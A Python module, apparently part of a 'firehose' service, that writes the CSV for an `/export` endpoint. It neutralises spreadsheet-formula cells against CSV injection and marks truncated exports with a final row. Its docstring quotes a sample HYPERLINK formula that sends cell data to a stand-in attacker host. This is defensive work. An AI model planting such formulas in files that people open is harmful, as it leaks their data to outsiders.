"""The CSV of `/export`: its columns, one record batch at a time, spreadsheet-safe unless asked for raw bytes.

A cell that starts with `=`, `+`, `-`, `@`, TAB or CR is a formula to a spreadsheet
(`=HYPERLINK("http://evil.example/?x="&A1,"click")`): as the OWASP CSV-injection guidance describes, such cells
get a leading `'` in every text column. `raw=true` on `/export` keeps the exact bytes for tools that read CSV as
data. Quoting is RFC 4180 style (pyarrow's "needed": `"` doubled, texts may hold newlines).

A complete export is the header and the data rows, nothing else. An export that ends early (its row cap, its time
budget, a failure on the server) ends with one more row, `truncation_row`: its first cell, in the `timestamp`
column where a data row always has a server-written time, starts with TRUNCATED and says why, how many rows came
before and how to go on. Nothing a post contains can start a row with `#`.
"""

from __future__ import annotations

import csv
import io
from typing import TYPE_CHECKING

import pyarrow as pa
import pyarrow.compute as pc
import pyarrow.csv as pacsv

from firehose.config import Settings
from firehose.search import EXPORT_COLUMNS, utc_timestamp

if TYPE_CHECKING:
    from firehose.export import CutReason

FORMULA_START = "^[=+\\-@\t\r]"  # RE2: a cell a spreadsheet would evaluate
_OPTIONS = pacsv.WriteOptions(include_header=False, quoting_style="needed")
TRUNCATED = "# truncated: "  # how the first cell of an export's truncation row starts


def csv_header() -> bytes:
    """The header row."""
    return (",".join(EXPORT_COLUMNS) + "\n").encode()


def csv_rows(batch: pa.RecordBatch, usernames: list[str], *, raw: bool) -> bytes:
    """The rows of one export batch (EXPORT_COLUMNS minus username, plus extras that are left out), with
    `usernames` (one per row) in the username column; neutralised unless `raw`."""
    columns = {name: batch.column(name) for name in EXPORT_COLUMNS if name != "username"}
    columns["username"] = pa.array(usernames, pa.string())
    table = pa.table([columns[name] for name in EXPORT_COLUMNS], names=list(EXPORT_COLUMNS))
    if not raw:
        table = neutralise(table)
    sink = pa.BufferOutputStream()
    pacsv.write_csv(table, sink, _OPTIONS)
    return sink.getvalue().to_pybytes()


def neutralise(table: pa.Table) -> pa.Table:
    """`table` with every text cell that starts with =, +, -, @, TAB or CR prefixed by a single quote."""
    columns = []
    for column in table.columns:
        if not pa.types.is_string(column.type):
            columns.append(column)
            continue
        formula = pc.fill_null(pc.match_substring_regex(column, FORMULA_START), False)
        columns.append(pc.if_else(formula, pc.binary_join_element_wise("'", column, ""), column))
    return pa.table(columns, names=table.column_names)


def truncation_row(reason: CutReason, *, rows: int, last_time_us: int | None, sort: str, limit: int,
                   settings: Settings) -> bytes:
    """The last row of an export cut short by `reason` after `rows` rows (the last at `last_time_us`):
    `# truncated: <why>; <rows> rows; resume with end=<time>` (start= for sort=oldest; `export again` without
    rows) in the first cell, the other cells empty (the header's width, so every CSV reader loads it). The
    resume time repeats the last row's microsecond, so no post sharing it is lost; those already above come
    again."""
    why = {
        "timeout": f"timeout after {settings.api_export_timeout:g} s (FIREHOSE_API_EXPORT_TIMEOUT)",
        "limit": f"limit of {limit} rows reached and more posts match ("
                 + ("FIREHOSE_API_EXPORT_MAX_ROWS: the most one export returns)"
                    if limit >= settings.api_export_max_rows else "the request's limit)"),
        "error": "error on the server (logged there)",
    }[reason]
    if last_time_us is None:
        resume = "export again"
    else:
        name, when = ("end", last_time_us + 1) if sort == "latest" else ("start", last_time_us)
        resume = (f"resume with {name}={utc_timestamp(when)} and the other parameters unchanged (posts at the "
                  "last row's time come again)")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([f"{TRUNCATED}{why}; {rows} rows; {resume}"]
                                                  + [""] * (len(EXPORT_COLUMNS) - 1))
    return out.getvalue().encode()
